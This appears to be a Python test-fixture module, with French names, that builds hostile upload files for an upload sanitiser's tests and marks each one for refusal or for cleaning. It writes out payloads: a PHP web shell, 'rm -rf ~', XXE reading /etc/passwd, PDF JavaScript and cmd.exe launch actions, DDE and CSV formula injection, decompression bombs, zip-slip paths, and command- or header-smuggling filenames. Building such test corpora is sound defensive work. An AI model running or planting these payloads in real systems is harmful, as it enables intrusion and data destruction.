"""Hostile files, made by code: nothing of them stands in the repository. Each says what must become of it."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass

import pikepdf
from PIL import Image, PngImagePlugin

REFUSE, INOFFENSIF = "refusé", "inoffensif"
SCRIPT = b"<script>alert('attaque')</script>"
DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
ODT = "application/vnd.oasis.opendocument.text"
EICAR = (
    b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-" + b"STANDARD-" + b"ANTIVIRUS-TEST-FILE!$H+H*"
)  # in pieces on purpose


@dataclass(frozen=True)
class Piece:
    """`traces`: bytes that must be nowhere in what is kept. `dit`: words of the refusal."""

    nom: str
    octets: bytes
    attendu: str
    dit: str = ""
    traces: tuple[bytes, ...] = ()
    nomme: str = ""


def png(largeur: int = 8, hauteur: int = 8, **plus: object) -> bytes:
    """A small picture."""
    return _image("PNG", Image.new("RGB", (largeur, hauteur), "red"), **plus)


def jpeg(**plus: object) -> bytes:
    """A small photograph."""
    return _image("JPEG", Image.new("RGB", (8, 8), "blue"), **plus)


def _image(forme: str, image: Image.Image, **plus: object) -> bytes:
    sortie = io.BytesIO()
    image.save(sortie, forme, **plus)
    return sortie.getvalue()


def png_annonce(largeur: int, hauteur: int) -> bytes:
    """A PNG whose head announces a size that its data don't have."""
    tete = struct.pack(">IIBBBBB", largeur, hauteur, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + _bloc(b"IHDR", tete) + _bloc(b"IDAT", zlib.compress(b"\0" * 100)) + _bloc(b"IEND", b"")
    )


def png_grand(cote: int) -> bytes:
    """A real picture of so many pixels on each side, all black, of some kilobytes."""
    presse, ligne = zlib.compressobj(9), b"\0" * (1 + 4 * cote)
    pixels = b"".join(presse.compress(ligne) for _ in range(cote)) + presse.flush()
    tete = struct.pack(">IIBBBBB", cote, cote, 8, 6, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + _bloc(b"IHDR", tete) + _bloc(b"IDAT", pixels) + _bloc(b"IEND", b"")


def _bloc(nom: bytes, octets: bytes) -> bytes:
    return struct.pack(">I", len(octets)) + nom + octets + struct.pack(">I", zlib.crc32(nom + octets))


def pdf(agir: Callable[[pikepdf.Pdf], None] | None = None, **options: object) -> bytes:
    """A PDF of one page, then what is done to it."""
    sortie = io.BytesIO()
    with pikepdf.new() as document:
        document.add_blank_page(page_size=(200, 200))
        if agir:
            agir(document)
        document.save(sortie, **options)  # type: ignore[arg-type]
    return sortie.getvalue()


D, N, S, A = pikepdf.Dictionary, pikepdf.Name, pikepdf.String, pikepdf.Array
JS = D(S=N.JavaScript, JS=S("app.alert('attaque')"))


def _annoter(document: pikepdf.Pdf, **champs: object) -> None:
    annotation = document.make_indirect(D(Type=N.Annot, Rect=A([0, 0, 100, 100]), **champs))
    document.pages[0].obj["/Annots"] = A([annotation])


def _racine(cle: str, valeur: object) -> Callable[[pikepdf.Pdf], None]:
    return lambda document: document.Root.__setitem__(cle, valeur)


def _formulaire(document: pikepdf.Pdf, **champs: object) -> None:
    champ = document.make_indirect(D(FT=N.Tx, T=S("montant"), AA=D(K=JS)))
    document.Root["/AcroForm"] = D(Fields=A([champ]), **champs)


def _joindre(nom: str) -> Callable[[pikepdf.Pdf], None]:
    return lambda document: document.attachments.__setitem__(nom, b"MZ" + b"\0" * 64)


def bombe_pdf(mo: int) -> bytes:
    """An object stream of some kilobytes that unfolds into `mo` megabytes."""
    presse = zlib.compressobj(9)
    plie = presse.compress(b"5 0 << >>") + b"".join(presse.compress(b" " * 1048576) for _ in range(mo)) + presse.flush()
    corps, places = io.BytesIO(), {}
    corps.write(b"%PDF-1.5\n")
    objets = {
        1: b"<</Type/Catalog/Pages 2 0 R/X 5 0 R>>", 2: b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 10 10]/Resources<<>>>>",
        4: b"<</Type/ObjStm/N 1/First 4/Length %d/Filter/FlateDecode>>stream\n%s\nendstream" % (len(plie), plie),
    }  # fmt: skip
    for numero, objet in objets.items():
        places[numero] = corps.seek(0, 2)
        corps.write(b"%d 0 obj\n%s\nendobj\n" % (numero, objet))
    ici = corps.tell()
    lignes = [(0, 0, 65535), *((1, places[n], 0) for n in (1, 2, 3, 4)), (2, 4, 0), (1, ici, 0)]
    table = b"".join(struct.pack(">BIH", *ligne) for ligne in lignes)
    corps.write(
        b"6 0 obj\n<</Type/XRef/Size 7/W[1 4 2]/Root 1 0 R/Length %d>>stream\n%s\nendstream\nendobj\n"
        % (len(table), table)
    )
    corps.write(b"startxref\n%d\n%%%%EOF" % ici)
    return corps.getvalue()


TYPES = (b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
         b'<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>')  # fmt: skip
W = b'<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>%s</w:body></w:document>'
TEXTE = W % b"<w:p><w:r><w:t>La DDE doit reboucher le trou.</w:t></w:r></w:p>"
RELS = b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">%s</Relationships>'


def docx(corps: bytes = TEXTE, types: bytes = TYPES, **membres: bytes) -> bytes:
    """A Word document; further members by name (`__` stands for `/`)."""
    return _archive({"[Content_Types].xml": types, "word/document.xml": corps, **_noms(membres)})


def odt(
    corps: bytes = b"<?xml version='1.0'?><office:document-content><office:scripts/></office:document-content>",
    **membres: bytes,
) -> bytes:
    """A LibreOffice document."""
    return _archive({"mimetype": ODT.encode(), "content.xml": corps, **_noms(membres)})


def _noms(membres: dict[str, bytes]) -> dict[str, bytes]:
    return {nom.replace("__", "/"): octets for nom, octets in membres.items()}


def _archive(membres: dict[str, bytes]) -> bytes:
    sortie = io.BytesIO()
    with zipfile.ZipFile(sortie, "w", zipfile.ZIP_DEFLATED) as archive:
        for nom, octets in membres.items():
            archive.writestr(zipfile.ZipInfo(nom) if nom == "mimetype" else nom, octets)
    return sortie.getvalue()


def _bombe_docx(mo: int, nom: str) -> bytes:
    sortie = io.BytesIO(docx())
    with zipfile.ZipFile(sortie, "a", zipfile.ZIP_DEFLATED) as archive, archive.open(nom, "w") as membre:
        for _ in range(mo):
            membre.write(b"<" * 1048576)
    return sortie.getvalue()


def _mille_membres() -> bytes:
    return _archive(
        {"[Content_Types].xml": TYPES, "word/document.xml": TEXTE, **{f"word/m{n}.xml": b"" for n in range(3000)}}
    )


def _menteur() -> bytes:
    """A member that unfolds into more than its head announces."""
    octets = bytearray(docx(W % (b"<w:p/>" * 20_000)))
    for signature, decalage in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        place = (
            octets.index(b"word/document.xml") if signature == b"PK\x03\x04" else octets.rindex(b"word/document.xml")
        )
        debut = octets.rindex(signature, 0, place)
        octets[debut + decalage : debut + decalage + 4] = struct.pack("<I", 10)
    return bytes(octets)


def _chiffre(octets: bytes) -> bytes:
    """The same archive, its members marked as encrypted."""
    chiffre = bytearray(octets)
    for signature, decalage in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        place = -1
        while (place := chiffre.find(signature, place + 1)) >= 0:
            chiffre[place + decalage] |= 1
    return bytes(chiffre)


def _externe(genre: str, vers: str) -> bytes:
    relation = f'<Relationship Id="r1" Type="http://x/relationships/{genre}" Target="{vers}" TargetMode="External"/>'
    return docx(word___rels__document_xml_rels=b"", **{"word/_rels/document.xml.rels": RELS % relation.encode()})


def _exif() -> bytes:
    exif = Image.Exif()
    exif[0x010E] = SCRIPT.decode()  # description
    exif[0x9286] = SCRIPT
    exif.get_ifd(0x8825).update({1: "N", 2: (50.0, 31.0, 47.0), 3: "E", 4: (2.0, 38.0, 27.0), 29: "2026:01:02"})
    return jpeg(exif=exif, comment=SCRIPT)


def _texte_png() -> bytes:
    infos = PngImagePlugin.PngInfo()
    infos.add_text("Comment", SCRIPT.decode())
    infos.add_itxt("XML:com.adobe.xmp", SCRIPT.decode() * 100, zip=True)
    return png(pnginfo=infos)


XXE = b'<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]>'
RIRE = b'<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]>'
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600
SVG = b"<svg xmlns='http://www.w3.org/2000/svg'"


def _textes() -> Iterator[Piece]:
    """What a browser could run, under its own name and others."""
    html = b"<!doctype html><html><body>" + SCRIPT
    for nom, octets in {
        "image.svg": SVG + b" onload='alert(1)'/>", "image.png": SVG + b">" + SCRIPT + b"</svg>", "image.svgz": zlib.compress(SVG),
        "xxe.svg": XXE + SVG + b">&f;</svg>", "milliard.svg": RIRE + SVG + b">&b;</svg>", "page.html": html, "page.pdf": html,
        "photo.jpg": html, "page.xhtml": b"<?xml version='1.0'?><html xmlns='http://www.w3.org/1999/xhtml'>" + SCRIPT, "page.mht": b"MIME-Version: 1.0\r\n\r\n" + html,
        "script.js": b"alert(1)//", "feuille.css": b"body{background:url(javascript:alert(1))}", "macro.vbs": b'CreateObject("WScript.Shell")',
        "lien.url": b"[InternetShortcut]\r\nURL=file:///C:/Windows", "appli.hta": b"<hta:application>" + SCRIPT, "commande.sh": b"#!/bin/sh\nrm -rf ~\n",
        "page.php": b"<?php system($_GET['c']); ?>", "table.csv": b"=cmd|' /C calc'!A0;1\n", "courriel.eml": b"From: a\r\nContent-Type: text/html\r\n\r\n" + SCRIPT,
        "texte.rtf": b"{\\rtf1{\\object\\objocx}}", "utf16.html": html.decode().encode("utf-16"), "bom.html": b"\xef\xbb\xbf" + html,
    }.items():  # fmt: skip
        yield Piece(nom, octets, REFUSE, "ne peut pas être reçu")


def _programmes_et_archives() -> Iterator[Piece]:
    for nom, octets in {
        "facture.pdf.exe": b"MZ" + b"\0" * 200, "photo.jpg": b"\x7fELF" + b"\0" * 200, "lettre.doc": OLE, "lettre.docx": OLE, "chiffre.docx": OLE,
        "archive.zip": _archive({"a.txt": b"a"}), "archive.pdf": _archive({"a.exe": b"MZ"}), "archive.7z": b"7z\xbc\xaf\x27\x1c" + b"\0" * 60,
        "archive.rar": b"Rar!\x1a\x07\x01\x00" + b"\0" * 60, "archive.gz": b"\x1f\x8b\x08" + b"\0" * 60, "paquet.jar": _archive({"META-INF/MANIFEST.MF": b"x", "A.class": b"\xca\xfe\xba\xbe"}),
        "appli.phar": b"<?php __HALT_COMPILER(); ?>\r\n" + b"\0" * 60, "phar.zip": _archive({".phar/stub.php": b"<?php __HALT_COMPILER();"}),
        "image.gif": b"GIF89a/*" + b"\0" * 20 + b"*/=alert(1)//", "image.bmp": b"BM" + b"\0" * 60, "image.ico": b"\0\0\1\0\1\0" + b"\0" * 60,
        "image.tiff": b"II*\0\x08\0\0\0" + struct.pack("<H", 2) + struct.pack("<HHII", 256, 4, 1, 900_000) + struct.pack("<HHII", 257, 4, 1, 900_000) + b"\0" * 4,
        "image.eps": b"%!PS-Adobe-3.0 EPSF\n(/etc/passwd) run", "son.mp3": b"ID3" + b"\0" * 60, "eicar.com": EICAR, "zip_slip.docx": _archive({"../../etc/cron.d/x": b"x"}),
    }.items():  # fmt: skip
        yield Piece(nom, octets, REFUSE, "ne peut pas être reçu")
    yield Piece("vide.pdf", b"", REFUSE, "est vide")
    yield Piece("lourd.pdf", pdf() + b"\0" * (15 * 1024 * 1024), REFUSE, "est trop lourd")


def _images() -> Iterator[Piece]:
    for nom, octets in {
        "inondation.png": png_annonce(60_000, 60_000), "ruban.png": png_annonce(2_000_000_000, 1), "nul.png": png_annonce(0, 0),
        "coupe.png": png()[:40], "coupe.jpg": jpeg()[:60], "faux.webp": b"RIFF\x10\0\0\0WEBPVP8 " + b"\0" * 8, "menteur.png": png_annonce(4000, 4000), "trop.png": png_annonce(5600, 5600),
    }.items():  # fmt: skip
        yield Piece(nom, octets, REFUSE, "image")
    yield Piece("grande.png", png_grand(5400), INOFFENSIF)
    for nom, octets, nomme in (
        ("gps.jpg", _exif(), ""), ("commentaire.png", _texte_png(), ""), ("suite.png", png() + SCRIPT, ""), ("suite.jpg", jpeg() + SCRIPT, ""),
        ("jpeg_zip.jpg", jpeg() + _archive({"a.js": SCRIPT}), ""), ("jpeg_phar.jpg", jpeg(comment=b"<?php __HALT_COMPILER(); ?>" + SCRIPT), ""),
        ("photo.html", png() + SCRIPT, "photo.html.png"), ("photo.exe", jpeg(comment=SCRIPT), "photo.exe.jpg"), ("photo.png", jpeg() + SCRIPT, "photo.png.jpg"),
        ("anime.webp", _image("WEBP", Image.new("RGB", (8, 8)), save_all=True, append_images=[Image.new("RGB", (8, 8), "red")], xmp=SCRIPT), ""),
        ("profil.jpg", jpeg(icc_profile=b"\0" * 128 + SCRIPT), ""),
    ):  # fmt: skip
        yield Piece(
            nom, octets, INOFFENSIF, traces=(SCRIPT, b"__HALT_COMPILER", b"a.js", b"Exif", b"2026:01:02"), nomme=nomme
        )


def _pdfs() -> Iterator[Piece]:
    traces = (
        b"JavaScript",
        b"/JS",
        b"/Launch",
        b"app.alert",
        b"/SubmitForm",
        b"/ImportData",
        b"/GoToE",
        b"/GoToR",
        b"/RichMediaContent",
        b"/XFA",
        b"/Rendition",
    )
    ouvrir = D(S=N.Launch, F=S("cmd.exe"))
    for nom, octets in {
        "a_l_ouverture.pdf": pdf(_racine("/OpenAction", JS)), "nomme.pdf": pdf(_racine("/Names", D(JavaScript=D(Names=A([S("a"), JS]))))),
        "au_clic.pdf": pdf(lambda p: _annoter(p, Subtype=N.Link, A=JS)), "a_l_entree.pdf": pdf(lambda p: p.pages[0].obj.__setitem__("/AA", D(O=JS))),
        "lien.pdf": pdf(lambda p: _annoter(p, Subtype=N.Link, A=D(S=N.URI, URI=S("javascript:app.alert(1)")))), "lance.pdf": pdf(lambda p: _annoter(p, Subtype=N.Link, A=ouvrir)), "lance_seul.pdf": pdf(_racine("/OpenAction", ouvrir)),
        "chaine.pdf": pdf(_racine("/OpenAction", D(S=N.GoTo, D=A([]), Next=A([JS, ouvrir])))), "envoie.pdf": pdf(lambda p: _annoter(p, Subtype=N.Link, A=D(S=N.SubmitForm, F=S("https://ailleurs.example")))),
        "importe.pdf": pdf(_racine("/OpenAction", D(S=N.ImportData, F=S("x.fdf")))), "unc.pdf": pdf(_racine("/OpenAction", D(S=N.GoToR, F=S("\\\\ailleurs\\x.pdf"), D=A([])))),
        "cerfa.pdf": pdf(_formulaire), "xfa.pdf": pdf(lambda p: _formulaire(p, XFA=S("<xdp:xdp/>"))), "dans_un_flux.pdf": pdf(_racine("/OpenAction", JS), object_stream_mode=pikepdf.ObjectStreamMode.generate),
        "nom_deguise.pdf": pdf(_racine("/OpenAction", JS)).replace(b"/JavaScript", b"/J#61vaScript").replace(b"/JS", b"/#4a#53"),
        "media.pdf": pdf(lambda p: _annoter(p, Subtype=N.RichMedia, RichMediaContent=D())), "video.pdf": pdf(lambda p: _annoter(p, Subtype=N.Screen, A=D(S=N.Rendition, JS=S("x")))),
    }.items():  # fmt: skip
        yield Piece(nom, octets, INOFFENSIF, traces=traces)
    for nom, octets in (
        ("pdf_html.pdf", pdf() + SCRIPT),
        ("pdf_zip.pdf", pdf() + _archive({"a.js": SCRIPT})),
        ("simple.pdf", pdf()),
        ("bombe.pdf", bombe_pdf(100)),
    ):
        yield Piece(nom, octets, INOFFENSIF)
    chiffre = pikepdf.Encryption(user="secret", owner="secret")
    for nom, octets, dit in (
        ("chiffre.pdf", pdf(encryption=chiffre), "mot de passe"), ("joint.pdf", pdf(_joindre("virus.exe")), "contient d'autres fichiers"),
        ("faux_xml.pdf", pdf(_joindre("a.xml")), "contient d'autres fichiers"), ("portfolio.pdf", pdf(lambda p: (_joindre("a.pdf")(p), _racine("/Collection", D())(p))[0]), "contient d'autres fichiers"),
        ("anime.pdf", pdf(lambda p: (_formulaire(p, XFA=S("x")), _racine("/NeedsRendering", True)(p))[0]), "formulaire animé"),
        ("abime.pdf", b"%PDF-1.4\n" + b"\0" * 500, "PDF"), ("html.pdf", b"%PDF-1.4\n" + SCRIPT, "PDF"), ("sans_page.pdf", pdf(lambda p: p.pages.__delitem__(0)), "PDF"),
        ("profond.pdf", b"%PDF-1.4\n1 0 obj\n" + b"[" * 200_000 + b"\nendobj\ntrailer<</Root 1 0 R>>", "PDF"),
        ("signe_et_actif.pdf", pdf(lambda p: (_racine("/OpenAction", JS)(p), p.Root.__setitem__("/Perms", D(DocMDP=D(Type=N.Sig, ByteRange=A([0, 1, 2, 3])))))[0]), "signé"),
        ("cache.pdf", pdf(lambda p: p.Root.__setitem__("/PieceInfo", D(X=p.make_indirect(D(Y=ouvrir))))), "petit programme"),
    ):  # fmt: skip
        yield Piece(nom, octets, REFUSE, dit)


def _documents() -> Iterator[Piece]:
    macro = TYPES.replace(b"document.main+xml", b"document.macroEnabled.main+xml")
    champ = b"<w:r><w:instrText>%s</w:instrText></w:r>"
    for nom, octets in {
        "macros.docx": docx(**{"word/vbaProject.bin": OLE}), "macros.docm": docx(types=macro), "activex.docx": docx(**{"word/activeX/activeX1.xml": b"<x/>"}),
        "ole.docx": docx(**{"word/embeddings/oleObject1.bin": OLE}), "programme.docx": docx(**{"word/media/image1.png": b"MZ" + b"\0" * 60}), "poupee.docx": docx(**{"word/embeddings/a.docx": docx()}),
        "modele.docx": _externe("attachedTemplate", "https://ailleurs.example/a.dotm"), "objet.docx": _externe("oleObject", "mhtml:https://ailleurs.example"),
        "image_unc.docx": _externe("image", "file://ailleurs/a.png"), "lien_fichier.docx": _externe("hyperlink", "file:///C:/Windows/system32/calc.exe"),
        "dde.docx": docx(W % (champ % b"DDEAUTO c:\\\\cmd.exe")), "dde_coupe.docx": docx(W % (champ % b"DD" + champ % b"EAUTO c:\\\\cmd.exe")),
        "xxe.docx": docx(XXE + TEXTE), "rire.docx": docx(RIRE + TEXTE), "xxe16.docx": docx((XXE.decode() + TEXTE.decode().replace('<?xml version="1.0"?>', "")).encode("utf-16")), "xxe16_sans_bom.docx": docx(XXE.decode().encode("utf-16-le")),
        "bombe.docx": _bombe_docx(210, "word/media/image1.emf"), "bombe_xml.docx": _bombe_docx(61, "word/a.xml"), "foule.docx": _mille_membres(), "menteur.docx": _menteur(), "chiffre.docx": _chiffre(docx()),
        "glisse.docx": docx(**{"../../../etc/x.xml": b"<x/>"}), "coupe.docx": docx()[:-30], "sans_corps.docx": _archive({"[Content_Types].xml": TYPES, "word/a.xml": b"<x/>"}),
        "basic.odt": odt(Basic__Standard__a_xml=b"<x/>"), "python.odt": odt(Scripts__python__a=b"import os"), "evenement.odt": odt(b'<script:event-listener script:event-name="dom:load"/>'),
        "chiffre.odt": odt(**{"META-INF/manifest.xml": b"<manifest:encryption-data/>"}), "distant.odt": odt(b'<draw:image xlink:href="https://ailleurs.example/a.png"/>'),
        "section.odt": odt(b'<text:section-source xlink:href="file:///etc/passwd"/>'), "ole.odt": odt(**{"Object 1": OLE}),
    }.items():  # fmt: skip
        yield Piece(nom, octets, REFUSE, nom.partition(".")[0])
    yield Piece("lettre.docx", docx(), INOFFENSIF)
    yield Piece("liens.docx", _externe("hyperlink", "https://mairie.example"), INOFFENSIF)
    yield Piece("lettre.odt", odt(), INOFFENSIF)
    yield Piece("lettre.html", docx(), INOFFENSIF, nomme="lettre.html.docx")


def _noms_hostiles() -> Iterator[Piece]:
    for nom, nomme in {
        "../../../etc/cron.d/tache.png": "tache.png", "..\\..\\Windows\\photo.png": "photo.png", "/etc/passwd": "passwd.png", "C:\\photo.png": "photo.png",
        "photo\0.html.png": "photo.html.png", "photo.php\0.png": "photo.php.png", "photo\u202egnp.exe": "photognp.exe.png", "photo\u2066\u200b.png": "photo.png",
        "a" * 800 + ".png": "a" * 146 + ".png", "con.png": "_con.png", "LPT1.png": "_LPT1.png", "photo.png. . .": "photo.png", "photo.png ": "photo.png",
        "facture.pdf.exe": "facture.pdf.exe.png", "photo.png::$DATA": "photo.png__$DATA.png", ".htaccess": "htaccess.png", "photo;rm -rf ~.png": "photo;rm -rf ~.png",
        "photo\r\nSet-Cookie: a=b.png": "photoSet-Cookie_ a=b.png", "\"><img src=x onerror=alert(1)>.png": "___img src=x onerror=alert(1)_.png", "..png": "png.png", "été à l'école.png": "été à l'école.png",
        "{{ 7*7 }}.png": "{{ 7_7 }}.png", "=cmd|calc.png": "=cmd_calc.png", "desktop.ini": "desktop.ini.png", "photo.PNG": "photo.PNG",
    }.items():  # fmt: skip
        yield Piece(nom, png(), INOFFENSIF, nomme=nomme)


def corpus() -> list[Piece]:
    """All of them."""
    return [*_textes(), *_programmes_et_archives(), *_images(), *_pdfs(), *_documents(), *_noms_hostiles()]
